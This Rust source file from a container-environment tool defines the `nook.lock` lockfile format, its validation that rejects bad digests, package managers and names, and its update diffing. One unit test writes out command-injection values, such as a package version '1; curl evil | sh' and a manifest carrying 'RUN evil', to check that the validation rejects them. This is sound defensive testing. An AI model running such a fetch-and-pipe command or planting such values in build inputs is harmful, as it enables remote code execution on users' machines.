//! `nook.lock`: what a profile resolved to — the base image by digest, each package's version,
//! each layer's key and the layer it made — so that the same profile gives the same
//! environment on another machine. TOML, written by nook, meant to be committed.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};

use super::ProfileError;

pub const VERSION: u32 = 1;

#[derive(Clone, Debug, Default, Deserialize, Serialize, PartialEq, Eq)]
#[serde(deny_unknown_fields)]
pub struct Lock {
    pub version: u32,
    /// SHA-256 of what in the profile decides the build (base, packages, steps).
    pub profile: String,
    pub base: LockedBase,
    /// One per package set, in order.
    #[serde(default, rename = "packages", skip_serializing_if = "Vec::is_empty")]
    pub packages: Vec<LockedPackages>,
    #[serde(default, rename = "setup", skip_serializing_if = "Vec::is_empty")]
    pub setup: Vec<LockedStep>,
}

#[derive(Clone, Debug, Default, Deserialize, Serialize, PartialEq, Eq)]
#[serde(deny_unknown_fields)]
pub struct LockedBase {
    /// As the profile names it.
    pub image: String,
    /// The manifest the name resolved to.
    pub manifest: String,
    /// The index (manifest list) it was chosen from, when there was one.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub index: Option<String>,
    pub platform: String,
}

#[derive(Clone, Debug, Default, Deserialize, Serialize, PartialEq, Eq)]
#[serde(deny_unknown_fields)]
pub struct LockedPackages {
    /// The profile that asks for them.
    pub from: String,
    pub manager: String,
    pub key: String,
    /// Name to exact version.
    pub versions: BTreeMap<String, String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub layer: Option<String>,
}

#[derive(Clone, Debug, Default, Deserialize, Serialize, PartialEq, Eq)]
#[serde(deny_unknown_fields)]
pub struct LockedStep {
    pub name: String,
    pub key: String,
    /// The layer it made (its diff id), when it made one.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub layer: Option<String>,
}

impl Lock {
    pub fn read(path: &Path) -> Result<Option<Lock>, ProfileError> {
        let text = match std::fs::read_to_string(path) {
            Ok(t) => t,
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(None),
            Err(source) => {
                return Err(ProfileError::Read {
                    path: path.to_path_buf(),
                    source,
                });
            }
        };
        let lock: Lock = toml::from_str(&text).map_err(|e| ProfileError::BadLock {
            path: path.to_path_buf(),
            why: e.message().to_string(),
        })?;
        // A lock comes with a checkout and is not covered by `nook trust`: it may choose
        // among versions and digests, never add words to what is built.
        if let Err(why) = lock.check() {
            return Err(ProfileError::BadLock {
                path: path.to_path_buf(),
                why,
            });
        }
        if lock.version != VERSION {
            return Err(ProfileError::BadLock {
                path: path.to_path_buf(),
                why: format!(
                    "version {} (this nook writes {VERSION}): `nook lock --update` writes it anew",
                    lock.version
                ),
            });
        }
        Ok(Some(lock))
    }

    pub fn write(&self, path: &Path) -> Result<(), ProfileError> {
        if let Some(dir) = path.parent() {
            std::fs::create_dir_all(dir).map_err(|e| ProfileError::Write {
                path: dir.to_path_buf(),
                why: e.to_string(),
            })?;
        }
        let body = toml::to_string(self).expect("locks serialize");
        let text = format!(
            "# Written by nook (`nook lock`): what the profile resolved to. Commit it with the\n\
             # profile; `nook shell --locked` enters exactly this.\n{body}"
        );
        crate::image::store::replace_file(path, text.as_bytes()).map_err(|e| ProfileError::Write {
            path: path.to_path_buf(),
            why: e.to_string(),
        })
    }

    /// Every value of the lock is of its kind: digests, package names and versions, a known
    /// package manager.
    fn check(&self) -> Result<(), String> {
        let digest = |what: &str, d: &str| {
            let ok = d
                .strip_prefix("sha256:")
                .is_some_and(|h| h.len() == 64 && h.bytes().all(|b| b.is_ascii_hexdigit()));
            if ok {
                Ok(())
            } else {
                Err(format!("{what} {d:?} is not a sha256 digest"))
            }
        };
        digest("profile", &self.profile)?;
        digest("base manifest", &self.base.manifest)?;
        if let Some(i) = &self.base.index {
            digest("base index", i)?;
        }
        for p in &self.packages {
            digest("package key", &p.key)?;
            if !["", "apt", "apk", "dnf"].contains(&p.manager.as_str()) {
                return Err(format!(
                    "package manager {:?} is not apt, apk or dnf",
                    p.manager
                ));
            }
            for (name, version) in &p.versions {
                if !super::plan::valid_package(name) || !super::plan::valid_package(version) {
                    return Err(format!(
                        "package {name:?} = {version:?} is not a package version"
                    ));
                }
            }
            if let Some(l) = &p.layer {
                digest("layer", l)?;
            }
        }
        for s in &self.setup {
            digest("step key", &s.key)?;
            if let Some(l) = &s.layer {
                digest("layer", l)?;
            }
        }
        Ok(())
    }

    /// Versions per package set, for the Containerfile.
    pub fn pins(&self) -> Vec<BTreeMap<String, String>> {
        self.packages.iter().map(|p| p.versions.clone()).collect()
    }

    /// How `other` (what the profile would lock now) differs from this lock, one line per
    /// difference; empty when they agree.
    pub fn differences(&self, now: &Lock) -> Vec<String> {
        let mut out = Vec::new();
        if self.base.image != now.base.image {
            out.push(format!(
                "base image: the lock has {}, the profile {}",
                self.base.image, now.base.image
            ));
        }
        if self.base.image == now.base.image && self.base.manifest != now.base.manifest {
            out.push(format!(
                "base image {}: now {} (the lock had {})",
                now.base.image, now.base.manifest, self.base.manifest
            ));
        }
        let sets = |l: &Lock| -> Vec<(String, Vec<String>)> {
            l.packages
                .iter()
                .map(|p| (p.from.clone(), p.versions.keys().cloned().collect()))
                .collect()
        };
        let (was, is) = (sets(self), sets(now));
        if was.len() != is.len() || was.iter().zip(&is).any(|(a, b)| a.0 != b.0) {
            out.push("package sets: the profiles asking for packages changed".to_string());
        } else {
            for ((from, a), (_, b)) in was.iter().zip(&is) {
                let added: Vec<&String> = b.iter().filter(|p| !a.contains(p)).collect();
                let removed: Vec<&String> = a.iter().filter(|p| !b.contains(p)).collect();
                if !added.is_empty() {
                    out.push(format!("packages of {from}: added {added:?}"));
                }
                if !removed.is_empty() {
                    out.push(format!("packages of {from}: removed {removed:?}"));
                }
            }
        }
        let names = |l: &Lock| l.setup.iter().map(|s| s.name.clone()).collect::<Vec<_>>();
        for s in &now.setup {
            match self.setup.iter().find(|o| o.name == s.name) {
                None => out.push(format!("setup step {:?}: new", s.name)),
                Some(o) if o.key != s.key => out.push(format!(
                    "setup step {:?}: changed (its definition, an input, or a step before it)",
                    s.name
                )),
                Some(_) => {}
            }
        }
        for n in names(self) {
            if !now.setup.iter().any(|s| s.name == n) {
                out.push(format!("setup step {n:?}: removed"));
            }
        }
        if out.is_empty() && names(self) != names(now) {
            out.push("setup steps: their order changed".to_string());
        }
        if out.is_empty() && self.profile != now.profile {
            out.push("the profile's build settings changed".to_string());
        }
        out
    }

    /// What an update changed, from this lock to `now`: its differences, then each package
    /// version and each step's layer that moved.
    pub fn updates(&self, now: &Lock) -> Vec<String> {
        let mut out = self.differences(now);
        for (was, is) in self.packages.iter().zip(&now.packages) {
            for (name, version) in &is.versions {
                match was.versions.get(name) {
                    Some(old) if old != version => out.push(format!("{name}: {old} → {version}")),
                    _ => {}
                }
            }
        }
        for (was, is) in self.setup.iter().zip(&now.setup) {
            if was.name == is.name && was.key == is.key && was.layer != is.layer {
                out.push(format!("setup step {:?}: made another layer", is.name));
            }
        }
        out
    }
}

/// Where a profile's lock lives: next to a project's file; for a profile entered by name,
/// in nook's data directory.
pub fn path_for(profile: &super::load::Profile, data_root: &Path) -> PathBuf {
    match &profile.origin {
        super::load::Origin::Project(file) => file.with_file_name("nook.lock"),
        _ => data_root
            .join("profiles")
            .join(format!("{}.lock", profile.name)),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_lock_cannot_add_words_to_a_build() {
        let d = tempfile::tempdir().unwrap();
        let path = d.path().join("nook.lock");
        let h = format!("sha256:{}", "a".repeat(64));
        let good = format!(
            "version = 1\nprofile = \"{h}\"\n[base]\nimage = \"x\"\nmanifest = \"{h}\"\n\
             platform = \"linux/amd64\"\n[[packages]]\nfrom = \"debian\"\nmanager = \"apt\"\n\
             key = \"{h}\"\n[packages.versions]\ngcc = \"4:12.2.0-3\"\n"
        );
        std::fs::write(&path, &good).unwrap();
        assert!(Lock::read(&path).unwrap().is_some());
        for (from, to) in [
            ("4:12.2.0-3", "1; curl evil | sh"),
            ("manager = \"apt\"", "manager = \"sh\""),
            (
                &format!("manifest = \"{h}\""),
                "manifest = \"sha256:abc\\nRUN evil\"",
            ),
        ] {
            std::fs::write(&path, good.replace(from, to)).unwrap();
            let e = Lock::read(&path).unwrap_err().to_string();
            assert!(e.contains("is damaged"), "{e}");
        }
    }

    #[test]
    fn an_update_says_which_versions_and_layers_moved() {
        let h = |c: &str| format!("sha256:{}", c.repeat(64));
        let lock = |gcc: &str, layer: &str| Lock {
            version: VERSION,
            profile: h("a"),
            base: LockedBase {
                image: "debian".to_string(),
                manifest: h("b"),
                index: None,
                platform: "linux/amd64".to_string(),
            },
            packages: vec![LockedPackages {
                from: "c".to_string(),
                manager: "apt".to_string(),
                key: h("c"),
                versions: [("gcc".to_string(), gcc.to_string())].into(),
                layer: None,
            }],
            setup: vec![LockedStep {
                name: "tools".to_string(),
                key: h("d"),
                layer: Some(h(layer)),
            }],
        };
        let was = lock("12.2.0-14", "e");
        assert!(was.updates(&was).is_empty());
        assert_eq!(
            was.updates(&lock("12.2.0-15", "f")),
            [
                "gcc: 12.2.0-14 → 12.2.0-15",
                "setup step \"tools\": made another layer"
            ]
        );
    }
}
